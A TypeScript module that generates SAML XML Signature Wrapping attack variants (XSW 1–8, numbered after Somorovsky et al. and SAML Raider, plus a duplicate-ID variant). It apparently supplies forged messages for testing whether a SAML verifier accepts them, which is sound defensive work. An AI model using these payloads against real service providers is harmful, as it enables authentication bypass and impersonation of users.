import {
  beforeStatus,
  forged,
  idOf,
  inResponse,
  ofSomebodyElse,
  signatureOf,
  unsigned,
  withId,
  within,
  withSignature,
} from './cut';

/**
 * XML signature wrapping of an assertion: what is signed stays in the message, and another assertion stands where it is looked
 * for. Numbered as in J. Somorovsky et al., On Breaking SAML, USENIX Security 2012, and as SAML Raider does.
 *
 * Each makes of a signed assertion what is delivered instead of it.
 */
export const WRAPPED_ASSERTION = {
  'xsw-3': {
    description: 'A forged assertion stands before the signed one.',
    multiply: (signed: string) => [forged(signed), signed],
  },
  'xsw-4': {
    description: 'The signed assertion stands inside a forged one.',
    multiply: (signed: string) => [within(forged(signed), signed)],
  },
  'xsw-5': {
    description: 'A forged assertion has the signature; what was signed follows it.',
    multiply: (signed: string) => [signedAs(signed, signatureOf(signed)), unsigned(signed)],
  },
  'xsw-6': {
    description: 'A forged assertion has the signature, and what was signed inside that.',
    multiply: (signed: string) => [signedAs(signed, within(signatureOf(signed), unsigned(signed)))],
  },
  'xsw-8': {
    description: 'A forged assertion has the signature, and what was signed in an Object of that.',
    multiply: (signed: string) => [
      signedAs(signed, within(signatureOf(signed), `<ds:Object>${unsigned(signed)}</ds:Object>`)),
    ],
  },
  'unsigned-beside-signed': {
    description: 'A forged assertion without a signature follows the signed one.',
    multiply: (signed: string) => [signed, forged(signed)],
  },
} as const;

// The forged one keeps the place of the signature, which differs between the versions of SAML.
function signedAs(signed: string, signature: string): string {
  return withSignature(withId(ofSomebodyElse(signed), idOf(forged(signed))), signature);
}

/** XSW 1: the signed Response stands inside its signature, which a forged Response has. */
export function insideSignature(signed: string, other: string): string {
  return placed(signed, other, (signature, original) => within(signature, original));
}

/** XSW 2: the signed Response stands before its signature, in a forged Response. */
export function besideSignature(signed: string, other: string): string {
  return placed(signed, other, (signature, original) => `${original}${signature}`);
}

function placed(signed: string, other: string, make: (signature: string, original: string) => string): string {
  return inResponse(other, (response) => beforeStatus(response, make(signatureOf(signed), unsigned(signed))));
}

/** XSW 7: a forged assertion stands in Extensions, where the schema takes anything. */
export function inExtensions(message: string, signed: string): string {
  return inResponse(message, (response) => beforeStatus(response, extensions(forged(signed))));
}

/** A forged assertion with the id of the signed one: whoever looks that up may find the other. */
export function withSameId(message: string, signed: string): string {
  const same = withId(forged(signed), idOf(signed));
  return inResponse(message, (response) => beforeStatus(response, extensions(same)));
}

function extensions(content: string): string {
  return `<samlp:Extensions>${content}</samlp:Extensions>`;
}
